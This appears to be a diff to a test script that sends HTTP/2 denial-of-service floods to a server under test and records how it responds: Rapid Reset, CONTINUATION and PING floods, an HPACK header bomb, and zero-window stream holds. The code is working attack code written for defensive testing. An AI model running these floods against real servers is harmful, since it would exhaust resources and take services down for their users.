@@ -12,6 +12,15 @@
 #               (open for long), without waiting for answers
 #     zerohold  a window of 0 and a GET of /bytes?n=N; then reads
 #               nothing and waits (up to 120 s) for the server to act
+#     reset     N streams opened and reset at once (CVE-2023-44487)
+#     cont      one HEADERS and N CONTINUATION frames (a 2024 flood)
+#     ping      N PINGs, their answers left unread while sending
+#     hpackrep  N requests on one connection, each an HPACK bomb (a 4000-
+#               byte field in the dynamic table referenced 1000 times)
+#     hold      a window of 0 and GETs of /bytes?n=4294967296 on N
+#               streams; then silence (10 s) while the test measures
+#   (reset, cont, ping and hpackrep wait for the GOAWAY: answers on the
+#   streams before it are not an outcome)
 #   Prints what the server did to the attacker, one line: "goaway CODE",
 #   "rst CODE" (the first stream reset), "headers" (a response began;
 #   "headers 431" when its status is 431),
@@ -53,8 +62,9 @@ import time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import threading  # noqa: E402
 from h2raw import (PREFACE, Reader, settings, window_update, headers,  # noqa: E402
-                   req_block, lit, indexed, data, status_of, GOAWAY,
-                   RST_STREAM, HEADERS, DATA, SETTINGS, END_STREAM, ACK)
+                   req_block, lit, indexed, data, status_of, rst, ping,
+                   frame, GOAWAY, RST_STREAM, HEADERS, DATA, SETTINGS,
+                   CONTINUATION, END_STREAM, ACK)
 
 
 def connect(port, sni, ca, alpn):
@@ -73,8 +83,9 @@ def send_all(s, chunks):
         pass
 
 
-def outcome(s, wait, count_refused=0):
-    """What the server did: the first GOAWAY, RST_STREAM or HEADERS."""
+def outcome(s, wait, count_refused=0, goaway_only=False):
+    """What the server did: the first GOAWAY, RST_STREAM or HEADERS
+    (only GOAWAY with goaway_only)."""
     s.settimeout(wait)
     r = Reader(s)
     refused = 0
@@ -87,6 +98,8 @@ def outcome(s, wait, count_refused=0):
             ft, fl, sid, p = f
             if ft == GOAWAY:
                 return "goaway %d" % struct.unpack(">I", p[4:8])[0]
+            if goaway_only:
+                continue
             if ft == RST_STREAM:
                 code = struct.unpack(">I", p[:4])[0]
                 if count_refused and code == 7:
@@ -112,7 +125,7 @@ def attack(port, sni, auth, ca, mode, n):
     s = connect(port, sni, ca, "h2")
     if s.selected_alpn_protocol() != "h2":
         return "no h2"
-    out = [PREFACE + settings([(4, 0)] if mode == "zerohold" else
+    out = [PREFACE + settings([(4, 0)] if mode in ("zerohold", "hold") else
                               [(4, 1 << 30)] if mode == "streams" else [])]
     if mode == "streams":	# windows open: only the stream limit counts
         out.append(window_update(0, 1 << 30))
@@ -135,11 +148,37 @@ def attack(port, sni, auth, ca, mode, n):
         res = outcome(s, 3, count_refused=1)
         s.close()
         return res
+    elif mode == "reset":
+        for i in range(n):
+            sid = 2 * i + 1
+            out.append(headers(sid, req_block("GET", "/healthz", auth)) +
+                       rst(sid, 8))
+    elif mode == "cont":
+        out.append(headers(1, req_block("GET", "/healthz", auth),
+                           end_headers=False))
+        out += [frame(CONTINUATION, 0, 1, lit("x-a", "b"))] * n
+    elif mode == "ping":
+        out += [ping(struct.pack(">Q", i)) for i in range(n)]
+    elif mode == "hpackrep":
+        for i in range(n):
+            blk = req_block("GET", "/healthz", auth) + indexed(62) * 1000
+            if i == 0:
+                blk = req_block("GET", "/healthz", auth) + \
+                    lit("x-bomb", "b" * 4000, index=True) + indexed(62) * 999
+            out.append(headers(2 * i + 1, blk))
+    elif mode == "hold":
+        out += [headers(2 * i + 1, req_block("GET", "/bytes?n=4294967296", auth))
+                for i in range(n)]
+        send_all(s, out)
+        time.sleep(10)
+        s.close()
+        return "held"
     elif mode == "zerohold":
         out.append(headers(1, req_block("GET", "/bytes?n=%d" % n, auth)))
         wait = 120
     send_all(s, out)
-    res = outcome(s, wait)
+    res = outcome(s, wait, goaway_only=mode in ("reset", "cont", "ping",
+                                                "hpackrep"))
     if mode == "zerohold" and res == "headers":
         res = outcome(s, wait)	# what comes after the head
     s.close()
